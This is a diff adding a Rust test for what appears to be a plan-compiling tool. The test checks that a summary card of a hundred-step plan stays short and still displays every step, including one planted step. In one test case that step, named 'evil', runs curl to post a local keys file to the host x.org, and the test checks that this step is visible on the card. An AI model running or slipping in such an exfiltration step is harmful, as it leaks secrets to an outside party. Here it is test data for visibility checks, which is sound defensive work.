@@ -43,6 +43,58 @@ fn an_element_that_does_something_else_is_on_the_card() {
     }
 }
 
+/// A plan of a hundred steps, and what its card must show of each; with a step in the midst that does something else.
+fn hundred(
+    step: impl Fn(usize) -> String,
+    shows: impl Fn(usize) -> String,
+    else_: (&str, &str),
+) -> (String, Vec<String>) {
+    let steps = (0..100).map(|number| match number {
+        57 => else_.0.to_owned(),
+        _ => step(number),
+    });
+    let shown = (0..100).map(|number| if number == 57 { else_.1.to_owned() } else { shows(number) });
+    let critical = "create \"out/**\"\n run \"make\"\n run \"curl\"";
+    let steps = steps.collect::<Vec<_>>().join("\n");
+    (format!("plan \"Hundred\" {{\n critical {{\n {critical}\n }}\n{steps}\n}}\n"), shown.collect())
+}
+
+#[test]
+fn a_hundred_steps_of_any_kind_fit_on_two_screens_and_hide_nothing() {
+    let curl = (
+        "step evil = process.run(argv: [\"curl\", \"-d\", \"@keys\", \"x.org\"])",
+        "evil = process.run(argv: [\"curl\", \"-d\", \"@keys\", \"x.org\"])",
+    );
+    let input = ("step evil = process.run(argv: [\"make\", \"t57\"], stdin: \"EVIL\")", "stdin: \"EVIL\"");
+    let write = |number| format!("step w{number} = fs.write(path: \"out/{number}\", text: \"row {number}\")");
+    let make = |number| format!("step p{number} = process.run(argv: [\"make\", \"t{number}\"])");
+    let made = |number| format!("p{number} = process.run(argv: [\"make\", \"t{number}\"])");
+    let read = |number| {
+        format!(
+            "step r{number} = fs.read(path: \"in/{number}\")\nstep w{number} = fs.write(path: \"out/{number}\", text: r{number}.text)"
+        )
+    };
+    let path = |number| format!("out/{number}");
+    for (what, (plan, shown), most) in [
+        ("programs", hundred(make, made, curl), 125),
+        ("programs, one with an input", hundred(make, made, input), 130),
+        ("changes after a program", hundred(write, path, curl), 140),
+        ("reads and writes", hundred(read, path, curl), 180),
+    ] {
+        let place = Place::new();
+        for number in 0..100 {
+            place.put(&format!("in/{number}"), format!("text {number}\n"));
+        }
+        place.put("p.pl", plan);
+        let said = place.planc(&["plan", "p.pl"]).exits(0);
+        let drawn = squeezed(&said.out);
+        for shown in shown {
+            assert!(drawn.contains(&squeezed(&shown)), "{what}: {shown} is not on the card\n{}", said.out);
+        }
+        assert!(said.out.lines().count() <= most, "{what}: {} lines\n{}", said.out.lines().count(), said.out);
+    }
+}
+
 #[test]
 fn the_hint_of_a_part_names_the_part() {
     let place = Place::new();
